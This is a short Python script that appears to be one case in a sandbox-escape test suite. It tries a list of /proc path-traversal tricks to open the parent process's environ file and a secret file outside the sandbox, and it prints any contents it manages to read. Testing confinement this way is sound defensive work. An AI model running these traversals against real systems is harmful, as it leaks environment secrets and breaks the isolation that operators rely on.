# SPDX-License-Identifier: Apache-2.0
# attack: map_files, exe, ns, fdinfo and attributes beneath /proc/self, and parents of its parts
# class: proc
# wins: leak
from kit import *

tried()
for p in ('/proc/self/task/../../%d/environ' % os.getppid(), '/proc/self/fd/../../%d/environ' % os.getppid(),
          '/proc/self/net/../../%d/environ' % os.getppid(), '/proc/sys/../%d/environ' % os.getppid(),
          '/proc/self/map_files/../root' + SECRET, '/proc/self/ns/../cwd/../box1/twin.txt', '/dev/stdin/../root' + SECRET,
          '/proc/self/task/%d/../../root' % threading.get_native_id() + SECRET, '/proc/self/exe/../../../..' + SECRET):
    fd = openat(p)
    if fd >= 0:
        os.write(1, os.read(fd, 65536))
